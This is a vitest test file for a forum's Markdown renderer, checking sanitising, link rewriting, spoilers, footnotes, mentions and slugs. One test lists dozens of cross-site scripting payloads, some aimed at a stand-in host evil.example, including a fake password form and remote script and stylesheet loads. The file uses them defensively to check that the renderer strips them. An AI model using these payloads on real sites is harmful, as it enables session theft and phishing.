import { plainText } from '@stoa/sdk/server'
import { describe, expect, it } from 'vitest'
import { excerpt } from '../server/excerpt.ts'
import { highlight } from '../server/highlight.ts'
import { createRender } from '../server/markdown.ts'
import { urlTitle } from '../server/url-title.ts'

const markdown = { render: createRender(() => ['https://site.example', 'http://old.example:3000'], highlight), excerpt, urlTitle }

describe('rendering Markdown', () => {
  it('lets no script, handler, style or foreign address scheme through', () => {
    const html = markdown.render(
      '<script>alert(1)</script><img src=x onerror=alert(1)><b style="color:red" onclick="x()">b</b> <a href="javascript:alert(1)" id="content">x</a> <iframe src="/"></iframe><svg><a href="x"></a></svg> [y](data:text/html,x)',
    )
    expect(html).not.toMatch(/script|onerror|onclick|style|javascript:|iframe|svg|id=/)
  })

  it('lets nothing hostile through in any form it may take', () => {
    const run = 'alert(1)'
    const texts = [
      `<script>${run}</script>`,
      `<scr<script>ipt>${run}</scr</script>ipt>`,
      `<ScRiPt src=//evil.example/x.js>`,
      `<img src=x onerror=${run}>`,
      `<img src=x: onerror\n=\n${run}>`,
      `<img/src/onerror=${run}>`,
      `<img src="x"onload="${run}">`,
      `<svg onload=${run}>`,
      `<svg><script>${run}</script></svg>`,
      `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`,
      `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
      `<a href="javascript:${run}">x</a>`,
      `<a href="JaVaScRiPt:${run}">x</a>`,
      `<a href="java\tscript:${run}">x</a>`,
      `<a href="&#106;avascript:${run}">x</a>`,
      `<a href="&#x6A;&#x61;vascript&colon;${run}">x</a>`,
      `<a href=" \u0001javascript:${run}">x</a>`,
      `[x](javascript:${run})`,
      `[x](javascript&colon;${run})`,
      `[x](<java\nscript:${run}>)`,
      `[x](vbscript:${run})`,
      `[x](data:text/html;base64,PHNjcmlwdD4=)`,
      `![x](data:image/svg+xml,<svg onload=${run}>)`,
      `![x" onerror="${run}](y.png)`,
      `![x](y.png "a" onerror="${run}")`,
      `[a]: javascript:${run}\n[a]`,
      `<iframe srcdoc="<script>${run}</script>"></iframe>`,
      `<object data="data:text/html,x"></object><embed src="//evil.example">`,
      `<form action="//evil.example"><input name=pass type=password><button>x</button></form>`,
      `<base href="//evil.example/"><link rel=stylesheet href="//evil.example/x.css"><meta http-equiv=refresh content="0;url=//evil.example">`,
      `<style>*{background:url(//evil.example)}</style><p style="background:url(//evil.example)">x</p>`,
      `<div id="content" name="location" class="hljs dialog">x</div>`,
      `<details open ontoggle=${run}><summary>x</summary></details>`,
      `>! <details class="spoiler" ontoggle=${run}><summary onclick=${run}>x</summary><script>${run}</script>`,
      `- [ ] "><img src=x onerror=${run}> \`" onfocus="${run}\``,
      `<video><source onerror=${run}></video><audio src=x onerror=${run}>`,
      `<textarea></textarea><title></title><noscript><img src=x onerror=${run}></noscript>`,
      `<template><script>${run}</script></template>`,
      `<!--><img src=x onerror=${run}>--><![CDATA[<script>${run}</script>]]><?xml ${run}?>`,
      `\`\`\`"><img src=x onerror=${run}>\n</code></pre><script>${run}</script>\n\`\`\``,
      `\`\`\`html\n<script>${run}</script>\n\`\`\``,
      `|<img src=x onerror=${run}>|\n|-|\n|[x](javascript:${run})|`,
      `[^x]\n\n[^x]: <script>${run}</script>`,
      `# <img src=x onerror=${run}>`,
      `@ana"><script>${run}</script>`,
      `<https://evil.example/"onmouseover="${run}>`,
      `https://evil.example/"onmouseover="${run}`,
      `\u0000<scr\u0000ipt>${run}</script>`,
    ]
    const attributes =
      /^(href|title|rel|id|class|aria-label|src|alt|width|height|loading|decoding|type|checked|disabled|start|colspan|rowspan|scope|open)$/
    const forbidden =
      /^(script|style|iframe|object|embed|form|button|textarea|title|base|link|meta|svg|math|video|audio|source|template|noscript)$/
    const addresses = /^(https?:\/\/|mailto:|[/#?]|[\w.%&;-]*$|y\.png)/i
    const render = createRender(() => ['https://site.example'])
    for (const make of [markdown.render, render]) {
      for (const text of texts) {
        for (const profile of ['post', 'comment', 'basic'] as const) {
          const html = make(text, { profile, mentions: true })
          for (const [whole, tag = '', inside = ''] of html.matchAll(/<([a-z][a-z0-9]*)((?:[^>"]|"[^"]*")*)>/gi)) {
            expect(tag, `${text} became ${whole}`).not.toMatch(forbidden)
            for (const [, name = '', value = ''] of inside.matchAll(/([^\s=/]+)(?:="([^"]*)")?/g)) {
              expect(name, `${text} became ${whole}`).toMatch(attributes)
              if (name === 'href' || name === 'src') expect(value, `${text} became ${whole}`).toMatch(addresses)
            }
          }
        }
      }
    }
  })

  it('marks links that leave the site and leaves its own alone', () => {
    expect(markdown.render('https://other.example/a')).toContain('href="https://other.example/a" rel="nofollow ugc noopener"')
    expect(markdown.render('[x](//other.example)')).toContain('x')
    expect(markdown.render('[x](//other.example)')).not.toContain('href')
    expect(markdown.render('https://site.example/a and [b](/b)')).toBe(
      '<p><a href="/a">https://site.example/a</a> and <a href="/b">b</a></p>',
    )
  })

  it('names what is on the site by its path, under any address that the site has had', () => {
    const html = markdown.render(
      '[a](http://old.example:3000/x?y#z) [b](https://site.example) ![](http://old.example:3000/uploads/post/p.png)',
    )
    expect(html).toContain('<a href="/x?y#z">a</a> <a href="/">b</a> <img src="/uploads/post/p.png"')
    expect(markdown.render('[x](https://site.example.evil/)')).toContain('href="https://site.example.evil/" rel="nofollow ugc noopener"')
  })

  it('folds lines that begin with >! away, and says nothing of them elsewhere', () => {
    const html = markdown.render('The end:\n>! It was **him**.\n>! - a list\n\n> quoted')
    expect(html).toBe(
      '<p>The end:</p>\n<details class="spoiler">\n<p>It was <strong>him</strong>.</p>\n<ul>\n<li>a list</li>\n</ul>\n</details>\n<blockquote>\n<p>quoted</p>\n</blockquote>',
    )
    expect(markdown.excerpt(html)).toBe('The end: quoted')
    expect(plainText(html)).toBe('The end: quoted')
    expect(markdown.render('>! a', { profile: 'comment' })).toContain('<details class="spoiler">')
    expect(markdown.render('>! '.repeat(9000)).match(/<details/g)).toHaveLength(3)
  })

  it('knows tables, strike, task lists, footnotes, hard breaks and heading ids', () => {
    expect(markdown.render('|a|b|\n|-|-:|\n|1|2|')).toContain('<td class="align-right">2</td>')
    expect(markdown.render('~~a~~\nb')).toBe('<p><s>a</s><br />\nb</p>')
    expect(markdown.render('- [x] done')).toContain(
      '<li class="task-list-item"><input type="checkbox" disabled checked aria-label="done" /> done</li>',
    )
    const noted = markdown.render('Night train[^1], **again**[^1] and[^b].\n\n[^1]: Bring water.\n\n[^b]: A blanket.')
    expect(noted).toContain('class="footnotes"')
    expect(markdown.excerpt(noted)).toBe('Night train, again and.')
    // Searched, but without what only leads there and back.
    expect(plainText(noted)).toBe('Night train, again and. Bring water. A blanket.')
    expect(markdown.render('## 你好 World\n## 你好 World')).toMatch(/id="h-你好-world".*id="h-你好-world-2"/s)
  })

  it('leaves the first heading to the page', () => {
    expect(markdown.render('# a\n## b\n###### c')).toBe('<h2 id="h-a">a</h2>\n<h3 id="h-b">b</h3>\n<h6 id="h-c">c</h6>')
    expect(markdown.render('## a')).toBe('<h2 id="h-a">a</h2>')
    expect(markdown.render('<h1>a</h1>')).toBe('<h2>a</h2>')
  })

  it('names pictures of the site by their path, with the size that their name tells', () => {
    const rest = 'loading="lazy" decoding="async"'
    expect(markdown.render('![x](https://site.example/uploads/post/abc-640x480.png)')).toBe(
      `<p><img src="/uploads/post/abc-640x480.png" alt="x" width="640" height="480" ${rest} /></p>`,
    )
    expect(markdown.render('![x](https://other.example/a-6x4.png)')).toBe(
      `<p><img src="https://other.example/a-6x4.png" alt="x" ${rest} /></p>`,
    )
    expect(markdown.render('<img src="/uploads/post/abc-640x480.png" width="320">')).toContain(
      '<img src="/uploads/post/abc-640x480.png" width="320" height="240"',
    )
  })

  it('shows HTML in a comment as it was written', () => {
    expect(markdown.render('a <b>b</b> <div>c</div>', { profile: 'comment' })).toBe(
      '<p>a &lt;b&gt;b&lt;/b&gt; &lt;div&gt;c&lt;/div&gt;</p>',
    )
  })

  it('drops nothing in silence where there is no place for it', () => {
    const comment = markdown.render('# h\n|a|b|\n|-|-|\n\n- [ ] t\n\n![p](/uploads/a.png) [^1]', { profile: 'comment' })
    expect(comment).toBe('<p># h<br />\n|a|b|<br />\n|-|-|</p>\n<ul>\n<li>[ ] t</li>\n</ul>\n<p><a href="/uploads/a.png">p</a> [^1]</p>')
    expect(markdown.render('- a\n- b', { profile: 'basic' })).toBe('<p>- a<br />\n- b</p>')
  })

  it('colours code by classes and escapes what it does not know', () => {
    expect(markdown.render('```ts\nconst a = 1\n```')).toContain('<span class="hljs-keyword">const</span>')
    expect(markdown.render('```nope\n<b>\n```')).toContain('&lt;b&gt;')
  })

  it('turns names into profile links where asked, outside of words, links and code', () => {
    const mentions = { mentions: true }
    expect(markdown.render('Hi @ana_m.', mentions)).toBe('<p>Hi <a href="/users/ana_m">@ana_m</a>.</p>')
    expect(markdown.render('a@b.com `@ana` [@ana](/x)', mentions)).not.toContain('/users/')
    expect(markdown.render('Hi @ana')).toBe('<p>Hi @ana</p>')
  })

  it('leaves little for profiles', () => {
    expect(markdown.render('# h\n\n**b** ![x](/y.png)', { profile: 'basic' })).toBe(
      '<p># h</p>\n<p><strong>b</strong> <a href="/y.png">x</a></p>',
    )
  })
})

describe('texts made from posts', () => {
  it('excerpts plain text by characters', () => {
    expect(markdown.excerpt('<p>a &lt;b&gt; &amp; c</p><p>二</p>')).toBe('a <b> & c 二')
    expect(markdown.excerpt('<p>一二三四五</p>', 3)).toBe('一二三…')
  })

  it('makes path parts: pinyin, no accents, at most 150 bytes, never empty', () => {
    expect(markdown.urlTitle('用 Rust 写服务：经验')).toBe('yong-rust-xie-fu-wu-jing-yan')
    expect(markdown.urlTitle('Café, crème!')).toBe('cafe-creme')
    expect(markdown.urlTitle('长'.repeat(200)).length).toBeLessThanOrEqual(150)
    expect(markdown.urlTitle('🎉 !?')).toBe('topic')
  })
})
